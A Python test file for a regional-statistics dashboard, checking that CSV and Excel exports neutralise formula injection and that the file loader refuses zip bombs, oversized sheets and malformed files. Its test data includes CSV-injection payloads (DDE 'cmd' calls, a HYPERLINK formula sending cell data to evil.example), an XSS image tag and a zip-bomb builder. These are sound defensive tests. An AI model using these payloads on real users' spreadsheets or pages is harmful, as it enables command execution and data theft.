"""Robustness and security: hostile cells in downloads, limits, messy files (issue 15)."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from indicators.cli import main
from indicators.dataset.validate import numeric_column
from indicators.errors import DataError
from indicators.io.export import labelled_results, safe_cells, to_csv, to_excel
from indicators.io.load import load_table, read_notes
from indicators.registry.catalog import load_registry

REG = load_registry()
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _results(names):
    return pd.DataFrame(
        {
            "region": names,
            "indicator": ["income_gini"] * len(names),
            "value": [-0.5 - i for i in range(len(names))],
            "suppressed": [False] * len(names),
        }
    )


# --- 1. safe exports (OWASP CSV injection) -------------------------------------------------


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_csv_download_neutralises_formulas_and_keeps_numbers(lang):
    data = to_csv(labelled_results(_results([*HOSTILE, "Fryslân", "-3,5"]), REG, lang), lang)
    sep, dec = (";", ",") if lang == "nl" else (",", ".")
    back = pd.read_csv(io.BytesIO(data), sep=sep, decimal=dec, encoding="utf-8-sig", dtype=str)
    assert back["region"].tolist()[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert back["region"].tolist()[-2:] == ["Fryslân", "-3,5"]  # a number as text stays
    # negative numbers stay numbers, written as the language writes them
    values = pd.read_csv(io.BytesIO(data), sep=sep, decimal=dec, encoding="utf-8-sig")["value"]
    assert values.tolist()[:2] == [-0.5, -1.5]
    # no line of the file starts a cell with a formula character
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sep))
    assert len(rows) == 1 + len(HOSTILE) + 2  # a carriage return in a name splits no row
    for cell in (c for row in rows[1:] for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_excel_download_has_no_formula_and_shows_the_name_as_written():
    data = to_excel(labelled_results(_results(HOSTILE), REG, "en"), {"Source": "=evil.csv"}, "en")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["results"]
    names = [sheet.cell(row=r, column=1).value for r in range(2, 2 + len(HOSTILE))]
    # text, exactly as in the file (a carriage return comes back as a line feed: XML)
    assert names == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(sheet.cell(row=r, column=1).quotePrefix for r in range(2, 2 + len(HOSTILE)))
    assert book["about"]["B1"].data_type == "s"
    assert book["about"]["B1"].value == "=evil.csv"
    value = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("value") + 1)
    assert value.value == -0.5 and value.data_type == "n"
    # the raw sheet XML has no <f> (formula) element at all
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_safe_cells_leaves_numbers_categories_and_the_input_alone():
    frame = pd.DataFrame(
        {
            "n": [-1, 2],
            "x": [-1.5, float("nan")],
            "c": pd.Categorical(["=a", "b"]),
            "=col": ["ok", None],
        }
    )
    out = safe_cells(frame)
    assert out["n"].tolist() == [-1, 2] and out["n"].dtype == frame["n"].dtype
    assert out["x"].iloc[0] == -1.5
    assert out["c"].tolist() == ["'=a", "b"]
    assert list(out.columns) == ["n", "x", "c", "'=col"]
    assert pd.isna(out["'=col"].iloc[1])
    assert frame["c"].tolist() == ["=a", "b"]  # unchanged


@pytest.fixture
def hostile_micro(tmp_path):
    path = tmp_path / "hostile.csv"
    pd.DataFrame(
        {
            "regio": [HOSTILE[0]] * 3 + ["@evil"] * 3,
            "x": [-1.0, -2.0, -3.0, 4.0, 5.0, 6.0],
        }
    ).to_csv(path, sep=";", index=False)
    return path


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_command_line_out_is_safe(hostile_micro, tmp_path, suffix):
    out = tmp_path / f"out.{suffix}"
    args = ["measures", str(hostile_micro), "--value", "x", "--region", "regio"]
    assert main([*args, "--measures", "mean", "--out", str(out)]) == 0
    if suffix == "csv":
        table = pd.read_csv(out)
        assert set(table["regio"]) == {"'" + HOSTILE[0], "'@evil", "Total"}
        assert table.loc[table["regio"] == "'" + HOSTILE[0], "value"].iloc[0] == -2.0
    else:
        book = openpyxl.load_workbook(out)
        ws = book.active
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert {ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)} == {
            HOSTILE[0],
            "@evil",
            "Total",
        }


def test_command_line_stdout_is_safe(hostile_micro, capsys):
    args = ["measures", str(hostile_micro), "--value", "x", "--region", "regio"]
    assert main([*args, "--measures", "mean"]) == 0
    table = pd.read_csv(io.StringIO(capsys.readouterr().out))
    assert "'@evil" in set(table["regio"])


# --- 2. limits that protect the machine ----------------------------------------------------


def _workbook(fill) -> bytes:
    book = openpyxl.Workbook()
    fill(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_stray_far_cell_is_refused_before_the_sheet_is_read():
    def fill(ws):
        ws.title = "Gegevens"
        ws.append(["regio", "x"])
        ws.append(["A", 1])
        ws["XFD1048576"] = 1

    data = _workbook(fill)
    assert len(data) < 10_000
    started = time.perf_counter()
    with pytest.raises(DataError) as err:
        load_table(data, name="stray.xlsx")
    assert time.perf_counter() - started < 5  # pandas alone needs ~137 GB here
    assert str(err.value) == (
        "The sheet 'Gegevens' of 'stray.xlsx' reaches to cell XFD1048576: 1,048,576 rows by "
        "16,384 columns, more than the 5,000,000 cells this dashboard reads. Usually a stray "
        "cell lies far outside your table (Ctrl+End in Excel goes there): delete the rows and "
        "columns after your table, save and upload again, or save the sheet as CSV."
    )
    assert "XFD1048576: 1.048.576 rijen bij 16.384 kolommen" in err.value.text("nl")


def test_a_declared_dimension_that_lies_is_refused():
    data = _workbook(lambda ws: ws.append(["regio", "x"]) or ws.append(["A", 1]))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w") as w:
        for item in z.infolist():
            body = z.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:ZZ999999"', body)
            w.writestr(item, body)
    with pytest.raises(DataError, match=r"reaches to cell ZZ999999: 999,999 rows by 702"):
        load_table(out.getvalue(), name="lies.xlsx")


def _bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * size)
    return out.getvalue()


def test_a_zip_bomb_named_xlsx_is_refused_unopened():
    big = _bomb(300 * 1024**2)
    assert len(big) < 400_000
    with pytest.raises(DataError) as err:
        load_table(big, name="bomb.xlsx")
    assert str(err.value).startswith("The workbook 'bomb.xlsx' unpacks to 315 MB, more than the")
    assert "Save only the sheet with your table as CSV" in str(err.value)
    dense = _bomb(100 * 1024**2)
    with pytest.raises(DataError) as err:
        load_table(dense, name="dicht.xlsx")
    assert "its part 'xl/worksheets/sheet1.xml' unpacks to 1,0" in str(err.value)
    assert "zipbom" in err.value.text("nl")


def test_formulas_without_calculated_values_are_named():
    def fill(ws):
        ws.title = "Blad1"
        ws.append(["regio", "x", "dubbel"])
        ws.append(["A", 1, "=B2*2"])
        ws.append(["B", 2, "=B3*2"])

    with pytest.raises(DataError) as err:
        load_table(_workbook(fill), name="formules.xlsx")
    assert str(err.value) == (
        "The sheet 'Blad1' of 'formules.xlsx' has 2 cell(s) with a formula but no calculated "
        "value ('C2', 'C3'): the file was made by a program and never saved in a spreadsheet. "
        "Open it in Excel or LibreOffice, save it and upload it again."
    )


def test_a_workbook_with_a_damaged_part_is_a_data_error():
    data = _workbook(lambda ws: ws.append(["regio", "x"]) or ws.append(["A", 1]))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w") as w:
        for item in z.infolist():
            body = z.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = body[: len(body) // 2]  # broken XML
            w.writestr(item, body)
    with pytest.raises(DataError, match="is not an Excel workbook"):
        load_table(out.getvalue(), name="kapot.xlsx")


# --- 3/4. the corpus: every messy or hostile file has one exact outcome --------------------

CORPUS = Path(__file__).parent / "data" / "hostile"
N = None  # a missing value


def _plain(df: pd.DataFrame) -> dict:
    return df.astype(object).where(df.notna(), None).to_dict("list")


LOADED = {
    "blank_above_header.csv": (
        {"regio": ["A", "B"], "inkomen": [10, 20]},
        ["Skipped 1 blank line(s) above the header (row 2)."],
    ),
    "title_above_header.csv": (
        {"regio": ["A", "B"], "inkomen": [10, 20]},
        [
            "Skipped 1 title line(s) above the header (row 3).",
            "Skipped 1 blank line(s) above the header (row 3).",
        ],
    ),
    "statline_download.csv": (
        {
            "Regio's": ["Groningen (PV)", "Amsterdam"],
            "Perioden": [2023, 2023],
            "Bevolking (aantal)": [596075, 918117],
            "Inkomen (x 1 000 euro)": [31.2, 35.9],
        },
        [
            "Skipped 1 title line(s) above the header (row 3).",
            "Skipped 1 blank line(s) above the header (row 3).",
            "Left out 1 line(s) at the end that are notes, not data (line 7): 'Bron: CBS'.",
            "Left out 1 totals row(s) from column 'Regio's' (row 4: 'Nederland'): totals of the "
            "other rows are not a region; the dashboard computes its own Total.",
        ],
    ),
    "footnotes_padded.csv": (
        {"regio": ["A", "B"], "inkomen": [10.0, 20.0], "n": [5.0, 6.0]},
        [
            "Left out 2 line(s) at the end that are notes, not data (rows 4, 5): 'Bron: CBS'; "
            "'* voorlopig'."
        ],
    ),
    "empty_lines_between.csv": ({"regio": ["A", "B"], "inkomen": [10, 20]}, []),
    "excel_sep_line.csv": (
        {"regio": ["A", "B"], "inkomen": [10.5, 20.0]},
        ["Skipped 1 title line(s) above the header (row 2)."],
    ),
    "totals_rows.csv": (
        {"gemeente": ["Utrecht", "Zeist"], "inkomen": [30, 32]},
        [
            "Left out 2 totals row(s) from column 'gemeente' (rows 4, 5: 'Totaal', 'Nederland'): "
            "totals of the other rows are not a region; the dashboard computes its own Total."
        ],
    ),
    "region_named_total.csv": (
        {"regio": ["North", "South"], "inkomen": [30, 32]},
        [
            "Left out 1 totals row(s) from column 'regio' (row 4: 'Total'): totals of the other "
            "rows are not a region; the dashboard computes its own Total."
        ],
    ),
    "huge_values.csv": ({"regio": ["A", "B", "C"], "inkomen": [1e308, 1e308, 1.0]}, []),
    "inf_values.csv": (
        {"regio": ["A", "B", "C"], "inkomen": [float("inf"), 20.0, 30.0]},
        [
            "Column 'inkomen' holds 1 infinite value(s) (Inf); they are read as infinite "
            "numbers, and a computation with this column stops on them."
        ],
    ),
    "r_inf.csv": (
        {"regio": ["A", "B", "C", "D"], "x": [float("inf"), 2.5, float("-inf"), N]},
        [
            "Column 'x' holds 2 infinite value(s) (Inf); they are read as infinite numbers, and "
            "a computation with this column stops on them."
        ],
    ),
    "all_missing.csv": (
        {"regio": ["A", "B", "C"], "inkomen": [N, N, N], "leeftijd": [30, 40, 50]},
        [],
    ),
    "mixed_decimals.csv": (
        {"regio": ["A", "B", "C", "D"], "inkomen": ["1,5", "2.5", "3,25", "4"]},
        [],
    ),
    "percentages.csv": (
        {"regio": ["A", "B", "C"], "werkloosheid": [20.0, 3.5, N]},
        [
            "Column 'werkloosheid' holds percentages ('20,0%'): read as the number before the % "
            "sign (20), in percent."
        ],
    ),
    "thousands_nl.csv": (
        {"regio": ["A", "B"], "inwoners": [1234567, 90960], "inkomen": [29328.83, 27104.5]},
        [],
    ),
    "unicode_minus.csv": (
        {"regio": ["A", "B"], "saldo": [-3.5, 2.0]},
        [
            "Column 'saldo': 1 value(s) written with the minus sign '\u2212' (U+2212) were read "
            "as negative numbers."
        ],
    ),
    "leading_zero_codes.csv": ({"code": ["0014", "0034"], "inkomen": [10, 20]}, []),
    "zero_width.csv": (
        {"regio": ["Amsterdam", "Amsterdam", "Utrecht"], "inkomen": [10, 20, 30]},
        [
            "Column 'regio': removed 2 invisible or text-direction character(s) (zero-width "
            "spaces, right-to-left marks) from rows 2, 4."
        ],
    ),
    "rtl_override.csv": (
        {"regio": ["madretsmA", "Utrecht", "Zeist"], "inkomen": [10, 20, 5]},
        [
            "Column 'regio': removed 1 invisible or text-direction character(s) (zero-width "
            "spaces, right-to-left marks) from row 2."
        ],
    ),
    "look_alike.csv": (
        {"regio": ["Amsterdam", "\u0410msterdam", "Utrecht"], "inkomen": [10, 20, 30]},
        [
            "Column 'regio': 1 name(s) use look-alike letters of another alphabet "
            "('\u0410msterdam'); check that they are spelled as meant.",
            "Column 'regio': names that differ only in case, spaces, punctuation, accents or "
            "look-alike letters: 'Amsterdam' / '\u0410msterdam'. They are counted apart now; if "
            "they are one region, count them as one under '5. Check' (when the column is the "
            "region) or write them the same way in the file.",
        ],
    ),
    "near_duplicates.csv": (
        {"regio": ["Den Haag", "den haag", "Den-Haag", "Zeist"], "inkomen": [10, 11, 12, 5]},
        [
            "Column 'regio': names that differ only in case, spaces, punctuation, accents or "
            "look-alike letters: 'Den Haag' / 'den haag' / 'Den-Haag'. They are counted apart "
            "now; if they are one region, count them as one under '5. Check' (when the column is "
            "the region) or write them the same way in the file."
        ],
    ),
    "formula_names.csv": (
        {
            "regio": ['=HYPERLINK("http://evil.example","Klik")', "@SUM(A1)", "+31 6 1234"],
            "inkomen": [10, 20, 30],
        },
        [],
    ),
    "markup_names.csv": (
        {
            "regio": [
                "![x](http://127.0.0.1:9/p.png)",
                "[Klik](http://x)",
                "<img src=x onerror=alert(1)>",
                "$x$",
            ],
            "inkomen": [10, 20, 30, 40],
        },
        [],
    ),
    "windows_1252.csv": (
        {"gemeente": ["Súdwest-Fryslân", "Goeree-Overflakkee"], "inkomen": [10, 20]},
        [],
    ),
    "utf16_no_bom.csv": (
        {"regio": ["Fryslân", "Zeist"], "inkomen": [10, 20]},
        ["The file is UTF-16 (little-endian) without a byte-order mark; it was read as such."],
    ),
    "utf16_excel_unicode.txt": ({"regio": ["Fryslân", "Zeist"], "inkomen": [10, 20]}, []),
    "mac_cr.csv": ({"regio": ["A", "B"], "inkomen": [10, 20]}, []),
    "quoted_newline.csv": ({"regio": ["Noord-\nHolland", "Zeist"], "inkomen": [10, 20]}, []),
    "quoted_separator.csv": (
        {"regio": ["Bergen (L.); Limburg", "Zeist"], "inkomen": [10, 20]},
        [],
    ),
    "r_write_table.txt": (
        {"column A": [1, 2], "regio": ["A", "B"], "inkomen": [10, 20]},
        ["Column A has no name in the header; it is called 'column A'."],
    ),
    "trailing_separators.csv": (
        {"regio": ["A", "B"], "inkomen": [10, 20]},
        [
            "Dropped column C: it has no name and no values.",
            "Dropped column D: it has no name and no values.",
        ],
    ),
    "merged_header.xlsx": (
        {"regio": [N, "A", "B"], "inkomen": [2022.0, 10.0, 20.0], "column C": [2023.0, 11.0, 21.0]},
        ["Column C has no name in the header; it is called 'column C'."],
    ),
    "dates.xlsx": (
        {
            "regio": ["A", "B"],
            "peildatum": [pd.Timestamp("2023-01-01"), pd.Timestamp("2024-01-01")],
            "inkomen": [10, 20],
        },
        [],
    ),
    "nested.parquet": (
        {
            "regio": ["A", "B"],
            "inkomen": [10.0, 20.0],
            "details": ["[1, 2]", "[3]"],
            "adres": ['{"straat": "x", "nr": 1}', '{"straat": "y", "nr": 2}'],
        },
        [
            "Column 'details' holds lists or records (nested Parquet, type list<element: "
            "int64>); it is kept as text and cannot be used as a number.",
            "Column 'adres' holds lists or records (nested Parquet, type struct<straat: string, "
            "nr: int64>); it is kept as text and cannot be used as a number.",
        ],
    ),
    "eurostat.tsv": (
        # a Eurostat download has one column per year: one row per region and year, the value
        # named after the file and its unit (from the 'unit' dimension) after that name
        {
            "geo": ["BE", "BE", "DE", "DE", "NL", "NL"],
            "year": [2021, 2022, 2021, 2022, 2021, 2022],
            "eurostat (EUR)": [29800.0, N, 30770.0, 32200.0, 31220.0, 33090.0],
        },
        [
            "Eurostat download: the first column was split into 'freq', 'unit', 'geo'; ':' is "
            "read as missing, and these flags after values were left out: 1 b (break in time "
            "series), 1 p (provisional).",
            "The table had one column per year: 2 columns ('2021', '2022') were taken as the "
            "years 2021 to 2022, and turned into one row per region and year (region from column "
            "'geo', year in column 'year'). There is no indicator column: the values are in "
            "column 'eurostat', named after the file. Left out column(s) 'freq': constant or "
            "describing the indicator.",
            "Column 'unit' gives each indicator its unit; it is now written after the "
            "indicator's name: 'eurostat (EUR)'.",
        ],
    ),
}

REFUSED = {
    "damaged_part.xlsx": "The file 'damaged_part.xlsx' is not an Excel workbook (.xlsx) that can "
    "be opened (it may be a Word document, a zip file or damaged). Open it in Excel, save it as "
    ".xlsx or CSV, and upload it again.",
    "word_document.xlsx": "The file 'word_document.xlsx' is not an Excel workbook (.xlsx) that "
    "can be opened (it may be a Word document, a zip file or damaged). Open it in Excel, save it "
    "as .xlsx or CSV, and upload it again.",
    "duplicate_header.csv": "The file 'duplicate_header.csv' has more than one column with the "
    "same name in the header (row 1): 'inkomen' (columns B, C). Give every column its own name "
    "and upload the file again.",
    "formulas_no_values.xlsx": "The sheet 'Blad1' of 'formulas_no_values.xlsx' has 2 cell(s) "
    "with a formula but no calculated value ('C2', 'C3'): the file was made by a program and "
    "never saved in a spreadsheet. Open it in Excel or LibreOffice, save it and upload it again.",
    "gzipped.csv": "The file 'gzipped.csv' is a compressed (.gz) file, not a table. Choose the "
    "CSV, Excel (.xlsx) or Parquet file that contains your table.",
    "json_named_csv.csv": "The file 'json_named_csv.csv' has a header row but no data rows. Add "
    'the data under the header (\'[{"regio": "A"\', \'"inkomen": 10}]\') or choose another '
    "file.",
    "lying_dimension.xlsx": "The sheet 'Blad1' of 'lying_dimension.xlsx' reaches to cell "
    "ZZ999999: 999,999 rows by 702 columns, more than the 5,000,000 cells this dashboard reads. "
    "Usually a stray cell lies far outside your table (Ctrl+End in Excel goes there): delete the "
    "rows and columns after your table, save and upload again, or save the sheet as CSV.",
    "stray_far_cell.xlsx": "The sheet 'Gegevens' of 'stray_far_cell.xlsx' reaches to cell "
    "XFD1048576: 1,048,576 rows by 16,384 columns, more than the 5,000,000 cells this dashboard "
    "reads. Usually a stray cell lies far outside your table (Ctrl+End in Excel goes there): "
    "delete the rows and columns after your table, save and upload again, or save the sheet as "
    "CSV.",
    "zip_bomb.xlsx": "The workbook 'zip_bomb.xlsx' was not opened: its part "
    "'xl/worksheets/sheet1.xml' unpacks to 1,029 times its size, which no real workbook does (a "
    "'zip bomb' can freeze the computer). Open the file only if you trust who sent it, save it as "
    "CSV and upload that.",
    "mixed_encoding.csv": "The text in 'mixed_encoding.csv' cannot be read: line 3 contains "
    "characters in an unknown encoding. In Excel choose 'Save as' > 'CSV UTF-8 (comma "
    "delimited)' and upload that file.",
    "nul_bytes.csv": "The file 'nul_bytes.csv' is not a text table (it contains binary data). "
    "Choose a CSV, Excel (.xlsx) or Parquet file.",
    "several_sheets.xlsx": "The sheet 'Toelichting' of 'several_sheets.xlsx' has a header row but "
    "no data rows. Add the data under the header ('Deze werkmap bevat het inkomen per "
    "gemeente.') or choose another sheet. The other sheets are 'Data': choose one with the sheet "
    "picker, or with --sheet NAME on the command line.",
    "stray_quote.csv": "The file 'stray_quote.csv' has lines with a different number of values "
    'than the header (2 columns, separated by semicolons): line 4 has 1: a double quote (") on '
    "that line is not closed until line 5. A value that contains a semicolon must be put in "
    "double quotes; remove lines that are not part of the table (titles, notes, sources) and "
    "upload the file again.",
    "truncated.parquet": "The file 'truncated.parquet' looks like Parquet but cannot be read (it "
    "may be damaged or incomplete). Export it again and upload the new file.",
}

# files that load, but whose column cannot be used for a computation: (column, message)
UNUSABLE = {
    "huge_values.csv": (
        "inkomen",
        "In 'huge_values.csv', column 'inkomen' has values so large that their sum is infinite, "
        "in row 2 ('1e+308'), row 3 ('1e+308'). Check these values (a wrong unit or an error "
        "code?) and correct them.",
    ),
    "inf_values.csv": (
        "inkomen",
        "In 'inf_values.csv', column 'inkomen' has infinite values (Inf) in row 2 ('inf'). No "
        "mean or spread can be computed with them: correct these values or leave the cells empty.",
    ),
    "r_inf.csv": (
        "x",
        "In 'r_inf.csv', column 'x' has infinite values (Inf) in row 2 ('inf'), row 4 ('-inf'). "
        "No mean or spread can be computed with them: correct these values or leave the cells "
        "empty.",
    ),
    "all_missing.csv": (
        "inkomen",
        "In 'all_missing.csv', column 'inkomen' has no values at all: all 3 cells are empty or "
        "missing. Choose the column that holds the data, or fill this one.",
    ),
    "mixed_decimals.csv": (
        "inkomen",
        "In 'mixed_decimals.csv', column 'inkomen' writes numbers with a decimal comma (row 2 "
        "('1,5'), row 4 ('3,25')) and with a decimal point (row 3 ('2.5')). Write every number "
        "in this column with the same decimal mark.",
    ),
}


def test_the_corpus_is_complete():
    files = sorted(p.name for p in CORPUS.iterdir())
    assert len(files) >= 40
    assert sorted({*LOADED, *REFUSED}) == files


@pytest.mark.parametrize("name", sorted(LOADED))
def test_corpus_file_loads_as_expected(name):
    frame, notes = LOADED[name]
    df = load_table(CORPUS / name)
    assert _plain(df) == frame
    assert df.attrs["load_notes"] == notes


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_corpus_file_is_refused_with_what_to_do(name):
    with pytest.raises(DataError) as err:
        load_table(CORPUS / name)
    assert str(err.value) == REFUSED[name]
    assert err.value.nl and err.value.nl != str(err.value)  # said in Dutch too
    assert name in err.value.text("nl")


@pytest.mark.parametrize("name", sorted(UNUSABLE))
def test_corpus_column_that_cannot_be_computed_names_the_rows(name):
    column, message = UNUSABLE[name]
    df = load_table(CORPUS / name)
    with pytest.raises(DataError) as err:
        numeric_column(df, column, source=name)
    assert str(err.value) == message


def test_the_right_sheet_with_sheet_and_a_note_naming_the_sheets():
    df = load_table(CORPUS / "several_sheets.xlsx", sheet="Data")
    assert _plain(df) == {"regio": ["A", "B"], "inkomen": [10, 20]}
    assert df.attrs["load_notes"] == []
    # a workbook whose first sheet holds a table: the note names the others and --sheet
    two = _workbook(lambda ws: ws.append(["regio", "x"]) or ws.append(["A", 1]))
    book = openpyxl.load_workbook(io.BytesIO(two))
    book.create_sheet("2024").append(["regio", "x"])
    buffer = io.BytesIO()
    book.save(buffer)
    notes = load_table(buffer.getvalue(), name="twee.xlsx").attrs["load_notes"]
    assert notes == [
        "Read sheet 'Sheet', the first of 2 sheets ('Sheet', '2024'). Is your table on another "
        "sheet? Choose it with the sheet picker, or with --sheet NAME on the command line."
    ]


def test_the_corpus_is_what_its_script_writes(tmp_path, monkeypatch):
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_hostile", CORPUS.parent / "make_hostile.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    monkeypatch.setattr(module, "OUT", tmp_path)
    module.main()
    for path in CORPUS.iterdir():
        if path.suffix in (".xlsx", ".parquet"):  # zip and parquet carry times and versions
            continue
        assert (tmp_path / path.name).read_bytes() == path.read_bytes(), path.name


def test_a_header_longer_than_the_sample_is_read_whole():
    names = [f"kolom_{i:05d}" for i in range(8000)]  # 96 KB of header
    data = (";".join(names) + "\n" + ";".join("1" for _ in names) + "\n").encode()
    assert data.index(b"\n") > 64 * 1024
    df = load_table(data, name="breed.csv")
    assert list(df.columns) == names and df.shape == (1, 8000)


def test_too_many_columns_is_refused_with_the_limits(monkeypatch):
    import indicators.io.load as load

    monkeypatch.setattr(load, "MAX_COLUMNS", 50)
    data = (";".join(f"k{i}" for i in range(60)) + "\n" + ";".join("1" * 60) + "\n").encode()
    with pytest.raises(DataError) as err:
        load_table(data, name="breed.csv")
    assert str(err.value) == (
        "The table in 'breed.csv' has 1 rows and 60 columns; this dashboard reads at most "
        "20,000,000 rows, 50 columns and 100,000,000 cells. Remove rows or columns you do not "
        "need, or split the file (for example by year)."
    )


def test_excel_download_survives_control_characters_in_names():
    data = to_excel(labelled_results(_results(["A\x1fB", "Zeist"]), REG, "nl"), None, "nl")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [book.active.cell(row=r, column=1).value for r in (2, 3)] == ["A\ufffdB", "Zeist"]


def test_a_table_too_large_is_refused_before_it_is_read(monkeypatch):
    import indicators.io.load as load

    monkeypatch.setattr(load, "MAX_CELLS", 100_000)
    data = b"regio;x;y\n" + b"Gemeente;1,5;2\n" * 50_000  # 150,000 cells, 750 KB
    monkeypatch.setattr(load.pacsv, "read_csv", lambda *a, **k: pytest.fail("it was read"))
    with pytest.raises(DataError) as err:
        load_table(data, name="groot.csv")
    assert str(err.value).startswith(
        "The table in 'groot.csv' has about 50,004 rows and 3 columns (estimated from its first "
        "lines, before the file is read); this dashboard reads at most 20,000,000 rows, 10,000 "
        "columns and 100,000 cells."
    )


@pytest.mark.parametrize("name", ["stray_far_cell.xlsx", "zip_bomb.xlsx", "stray_quote.csv"])
def test_the_command_line_exits_2_with_the_message(name, capsys, monkeypatch):
    monkeypatch.setenv("LANG", "C.UTF-8")
    monkeypatch.delenv("LC_ALL", raising=False)
    monkeypatch.delenv("LC_MESSAGES", raising=False)
    args = ["measures", str(CORPUS / name), "--value", "inkomen", "--region", "regio"]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert REFUSED[name] in err and "Traceback" not in err


# dataset/prepare.py's to_scores checks a numeric column (validate.finite_column): before, the
# command line and the dashboard computed inf or NaN with exit 0.
@pytest.mark.parametrize("name", ["inf_values.csv", "huge_values.csv", "all_missing.csv"])
def test_the_command_line_refuses_a_column_it_cannot_compute(name, capsys, monkeypatch):
    monkeypatch.setenv("LANG", "C.UTF-8")
    monkeypatch.delenv("LC_ALL", raising=False)
    monkeypatch.delenv("LC_MESSAGES", raising=False)
    args = ["measures", str(CORPUS / name), "--value", "inkomen", "--region", "regio"]
    assert main([*args, "--measures", "mean"]) == 2  # no NaN or inf with exit 0
    # the command line names the file as it was given (its path)
    expected = UNUSABLE[name][1].replace(f"'{name}'", f"'{CORPUS / name}'")
    assert expected in capsys.readouterr().err


# ---- the read notes in Dutch too -------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(LOADED))
def test_corpus_file_notes_are_said_in_dutch_too(name):
    df = load_table(CORPUS / name)
    english = df.attrs["load_notes"]
    dutch = read_notes(df, "nl")
    assert read_notes(df, "en") == english == LOADED[name][1]
    assert len(dutch) == len(english)
    for nl, en in zip(dutch, english, strict=True):
        assert nl.strip() and "{" not in nl.replace("{'", "")  # filled in, never a placeholder
        assert nl != en, en


def test_dutch_notes_read_as_a_dutch_civil_servant_writes_them():
    df = load_table(b"\n\nregio;inkomen\nA;10\nB;20\n", name="leeg.csv")
    assert read_notes(df, "nl") == ["2 lege regels boven de kopregel overgeslagen (rij 3)."]
    assert df.attrs["load_notes"] == ["Skipped 2 blank line(s) above the header (row 3)."]
    one = load_table(CORPUS / "blank_above_header.csv")
    assert read_notes(one, "nl") == ["1 lege regel boven de kopregel overgeslagen (rij 2)."]
    # parts of sentences follow the language: rows, 'and more', the sheets of a workbook
    totals = load_table(CORPUS / "totals_rows.csv")
    assert any(n.startswith("Left out") and "(row" in n for n in totals.attrs["load_notes"])
    assert read_notes(totals, "nl") == [
        "2 totaalrijen in kolom 'gemeente' weggelaten (rijen 4, 5: 'Totaal', 'Nederland'): een "
        "totaal van de andere rijen is geen regio; het dashboard berekent zelf het totaal."
    ]
    # more than ten rows: 'en nog', never 'and more'
    many = "regio;x\n" + "".join(f"R{i}\u200b;{i}\n" for i in range(15))
    nl = read_notes(load_table(many.encode(), name="veel.csv"), "nl")
    assert nl == [
        "Kolom 'regio': 15 onzichtbare tekens of tekens voor de schrijfrichting (spaties zonder "
        "breedte, markeringen voor rechts-naar-links) verwijderd uit rijen 2, 3, 4, 5, 6 (en nog "
        "10)."
    ]
    book = openpyxl.Workbook()
    book.active.append(["regio", "x"])
    book.active.append(["A", 1])
    book.create_sheet("2024").append(["regio", "x"])
    buffer = io.BytesIO()
    book.save(buffer)
    notes = read_notes(load_table(buffer.getvalue(), name="twee.xlsx"), "nl")
    assert notes == [
        "Blad 'Sheet' gelezen, het eerste van 2 bladen ('Sheet', '2024'). Staat uw tabel op een "
        "ander blad? Kies dat met de bladkeuze, of met --sheet NAAM op de opdrachtregel."
    ]


def test_a_long_table_and_eurostat_flags_are_said_in_dutch():
    long = (
        b"regio,jaar,indicator,waarde,eenheid\n"
        b"A,2020,inkomen,10,euro\nA,2020,gezond,5,euro\n"
        b"B,2020,inkomen,20,euro\nB,2020,gezond,6,euro\n"
    )
    df = load_table(long, name="lang.csv")
    en, nl = df.attrs["load_notes"][-2], read_notes(df, "nl")[-2]
    assert read_notes(df, "nl")[-1].startswith("Kolom 'eenheid' geeft elke indicator zijn")
    assert en.startswith("The table was long (one row per region, year and indicator)")
    assert nl.startswith("De tabel was lang (één rij per regio, jaar en indicator)")
    assert ("Left out column(s) 'eenheid'" in en) == ("Kolom 'eenheid' weggelaten" in nl)
    euro = load_table(CORPUS / "eurostat.tsv")
    assert any("vlaggen" in n or "Eurostat-download" in n for n in read_notes(euro, "nl"))
    assert len(read_notes(euro, "nl")) == len(euro.attrs["load_notes"])
